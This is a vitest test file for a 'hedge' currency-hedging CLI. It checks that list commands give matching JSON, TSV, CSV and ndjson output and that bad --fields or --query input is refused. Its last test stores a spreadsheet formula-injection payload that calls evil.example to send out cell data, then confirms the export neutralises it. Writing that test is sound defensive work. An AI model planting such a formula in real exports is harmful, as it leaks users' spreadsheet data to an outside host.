// Every list resource through the real binary against one frozen simulator, in every format a
// script uses: --json is what the API answered; tsv and csv carry a header row of field keys in the
// documented column order with the same values; ndjson is the JSON one element per line; --fields
// picks and orders columns (tsv, csv, json); --query (JMESPath) reshapes the JSON. Bad --fields and
// --query are exit 2; a bad --query is refused before any request.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exits, ok as succeeded } from '../support/cli-runs.js';
import { runHedge, tempDir, type HedgeArgs } from '../support/hedge-cli.js';
import { FROZEN_KEY } from '../support/keys.js';
import { apiData, pinnedClockEnv, startSimulator, withSimulator, type Simulator } from '../support/simulator.js';

let simulator: Simulator;
let config: { path: string; remove: () => void };

/** The documented column order of each list (docs/output.md "Fields and column priorities, per list"). */
const words = (text: string) => text.split(/\s+/);
const COLUMNS: Record<string, string[]> = {
  markets: words('market status price capacity_buy_usd capacity_sell_usd carry_buy_daily_pct carry_sell_daily_pct'),
  price: words('market price timestamp'),
  hedges: words(
    'id client_reference market side notional_usd tenor_days status struck_rate opened_at maturity_at filled_at closed_at units order_key order_tx_hash fill_tx_hash',
  ),
  history: words(
    'hedge_id client_reference market side notional_usd tenor_days opened_at closed_at close_reason entry_price exit_price gross_pnl_usd carry_usdc fees_usdc net_pnl_usd',
  ),
  positions: words(
    'market side client_reference notional_usd entry_price mark_price gross_pnl_usd accrued_carry_usdc net_pnl_usd close_fee_usdc margin_usdc net_margin_usd maturity_at hedge_id units opened_at',
  ),
};

/** The API path each list reads, to compare --json with what the server answers. */
const PATHS: Record<string, string> = {
  markets: '/markets',
  price: '/prices?symbols=USDTNGN',
  hedges: '/hedges',
  history: '/hedges/history',
  positions: '/positions',
};

/** A cell as TSV/CSV write the value: raw numbers, ISO times, empty when absent. */
function cell(value: unknown) {
  return value === undefined || value === null ? '' : String(value);
}

/** The value of a column for a record: markets flatten their per-side objects into columns. */
/** Each hedge's deal reference (GET /hedges): what a position's `client_reference` column is joined from. */
let referenceOfHedge = new Map<string, unknown>();

function columnValue(record: Record<string, any>, key: string) {
  const side = /^(capacity|carry)_(buy|sell)_/.exec(key);
  if (side) return (side[1] === 'capacity' ? record.available_capacity_usd : record.net_rate_daily_pct)[side[2]];
  // A position carries no reference of its own (the spec shows none): it is its hedge's.
  if (key === 'client_reference' && record.client_reference === undefined && typeof record.hedge_id === 'string')
    return referenceOfHedge.get(record.hedge_id);
  return record[key];
}

/** Each line of a run's output, read by `read` (a TSV row split, an ndjson document parsed). */
const rowsOf = (text: string, read: (line: string) => unknown) =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => read(line));

function hedge(args: HedgeArgs) {
  return runHedge(args, { env: { ...simulator.env, ...pinnedClockEnv(simulator) }, configDir: config.path });
}

async function ok(args: HedgeArgs) {
  const result = await hedge(args);
  expect(result.code, `hedge ${String(args)}\n${result.stderr}`).toBe(0);
  return result.stdout;
}

beforeAll(async () => {
  simulator = await startSimulator({ preset: 'frozen' });
  simulator.sandbox.seedHedges({ apiKey: FROZEN_KEY, count: 3, status: 'closed' });
  simulator.sandbox.seedHedges({ apiKey: FROZEN_KEY, count: 1, status: 'failed' });
  await apiData(simulator, 'POST', '/hedges', {
    market: 'USDTNGN',
    side: 'buy',
    notional_usd: 25_000,
    tenor_days: 7,
    client_reference: 'DEAL, "42"',
  });
  simulator.sandbox.clock.advance(3_600_000);
  config = tempDir();
  const hedges = await apiData(simulator, 'GET', '/hedges?limit=500');
  referenceOfHedge = new Map(hedges.map((entry: any) => [entry.id, entry.client_reference]));
});

afterAll(async () => {
  await simulator?.close();
  config?.remove();
});

describe.each(Object.keys(COLUMNS))('%s', (command) => {
  it('json is the data as the API answered; tsv, csv and ndjson carry the same records in the documented columns', async () => {
    const [json, tsv, csv, ndjson, bare] = await Promise.all([
      ok(`${command} --json`),
      ok([command]),
      ok(`${command} --format csv`),
      ok(`${command} --format ndjson`),
      ok(`${command} --format tsv --no-header`),
    ]);
    const records = JSON.parse(json);
    // positions: the server's objects untouched, with the side's references at the top and its book
    // beside each (docs/output.md): its live hedge as the record has it.
    const sent =
      command === 'positions'
        ? records.map(({ side_book: _book, client_reference: _one, client_references: _all, ...rest }: any) => rest)
        : records;
    expect(sent).toEqual(await apiData(simulator, 'GET', PATHS[command]));
    if (command === 'positions') {
      const hedge = await apiData(simulator, 'GET', '/hedges?status=filled');
      expect([
        records.map((record: any) => record.side_book),
        records.map((record: any) => Object.keys(record).slice(0, 2)),
        records.map((record: any) => [record.client_reference, record.client_references]),
      ]).toEqual([
        [{ state: 'in-step', why: null, records_notional_usd: 25_000, hedges: hedge }],
        [['client_reference', 'client_references']],
        [[hedge[0].client_reference, [hedge[0].client_reference]]],
      ]);
    }
    expect(records.length).toBe(command === 'history' ? 3 : command === 'hedges' ? 5 : 1);

    const expected = records.map((record: any) => COLUMNS[command].map((key) => cell(columnValue(record, key))));
    const tsvRows = rowsOf(tsv, (line) => line.split('\t'));
    expect([[tsvRows[0], tsvRows.slice(1)], rowsOf(bare, (line) => line.split('\t'))]).toEqual([
      [COLUMNS[command], expected],
      expected,
    ]);

    const csvRows = parse(csv) as string[][];
    expect([csvRows, rowsOf(ndjson, JSON.parse)]).toEqual([[COLUMNS[command], ...expected], records]);
  });

  it('--fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
    const [second, first] = [COLUMNS[command][2], COLUMNS[command][0]];
    const [json, tsv, csv, fieldsJson, query, queryNd] = await Promise.all([
      ok(`${command} --json`),
      ok(`${command} --fields ${second},${first}`),
      ok(`${command} --fields ${second},${first} --format csv --no-header`),
      ok(`${command} --fields ${second},${first} --json`),
      ok(`${command} --query [].${first}`),
      ok([command, '--query', `[].{a: ${first}}`, '--format', 'ndjson']),
    ]);
    const records = JSON.parse(json);
    const pairs = records.map((record: any) => [cell(columnValue(record, second)), cell(columnValue(record, first))]);
    expect([rowsOf(tsv, (line) => line.split('\t')), parse(csv)]).toEqual([[[second, first], ...pairs], pairs]);
    const picked = JSON.parse(fieldsJson);
    expect([
      [
        picked.map((record: any) => Object.keys(record)),
        picked.map((record: any) => [cell(record[second]), cell(record[first])]),
        JSON.parse(query),
      ],
      rowsOf(queryNd, JSON.parse),
    ]).toEqual([
      [records.map(() => [second, first]), pairs, records.map((record: any) => record[first])],
      records.map((record: any) => ({ a: record[first] })),
    ]);
  });
});

describe('refusals', () => {
  it('an unknown --fields name is exit 2 naming it and the fields there are; stdout stays empty', async () => {
    for (const format of ['tsv', 'csv', 'json', 'table']) {
      const result = await hedge(`hedges --fields id,nope --format ${format}`);
      expect(result.code, format).toBe(2);
      expect(result.stdout).toBe('');
      // Under --format json the error is JSON on stderr too.
      const message = format === 'json' ? JSON.parse(result.stderr).error.message : result.stderr;
      expect(message).toContain('--fields: "nope" is not a field here; available: id, client_reference, market, side,');
    }
  });

  it('a bad --query is exit 2 naming --query, before any request: one line for a person, the JSON error only with --json', async () => {
    const before = simulator.sandbox.requestLog.length;
    const [syntax, unknownFunction, asJson] = await Promise.all([
      hedge('hedges --query [?status=='),
      hedge('positions --query nosuch(@)'),
      hedge('positions --query nosuch(@) --json'),
    ]);
    for (const result of [syntax, unknownFunction, asJson]) {
      exits(result, 2);
      expect(result.stdout).toBe('');
    }
    // --query makes the data JSON, not the errors: without --json the refusal is one human line.
    expect(syntax.stderr).toMatch(
      /^hedge: --query "\[\?status==": .*; expected a JMESPath expression \(https:\/\/jmespath\.site\)\.\n$/,
    );
    expect(unknownFunction.stderr).toBe(
      'hedge: --query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).\n',
    );
    expect(JSON.parse(asJson.stderr).error).toMatchObject({
      code: 'usage',
      message:
        '--query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).',
    });
    expect(simulator.sandbox.requestLog.length).toBe(before);
  });

  it('a record in tsv and csv is a header row of keys and one row: `hedges ID`, account', async () => {
    const [hedges, account] = await Promise.all([ok('hedges --json'), ok('account --json')]);
    const id = JSON.parse(hedges).find((entry: any) => entry.order_tx_hash)!;
    const [one, accountCsv] = await Promise.all([ok(`hedges ${id.id} --format csv`), ok('account --format csv')]);
    const [header, row, ...more] = parse(one) as string[][];
    expect([more, header]).toEqual([[], COLUMNS.hedges]);
    expect(row[header.indexOf('order_tx_hash')]).toBe(id.order_tx_hash);
    const [accountHeader, accountRow] = parse(accountCsv) as string[][];
    const expected = JSON.parse(account);
    expect([accountHeader.slice(0, 2), accountRow]).toEqual([
      ['balance_usdc', 'margin_in_use_usdc'],
      accountHeader.map((key) => cell(expected[key])),
    ]);
  });
});

describe('cells a spreadsheet would run as formulas (a deal reference is the user’s text)', () => {
  it('TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    await withSimulator({}, async (own) => {
      succeeded(await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`));
      expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
      const fields = '--fields client_reference,notional_usd';
      const tsv = succeeded(await own.hedge(`hedges --format tsv ${fields}`));
      const csv = succeeded(await own.hedge(`hedges --format csv ${fields}`));
      expect([tsv.stdout.trimEnd().split('\n'), parse(csv.stdout)]).toEqual([
        ['client_reference\tnotional_usd', `'${formula}\t1000`],
        [
          ['client_reference', 'notional_usd'],
          [`'${formula}`, '1000'],
        ],
      ]);
    });
  });
});
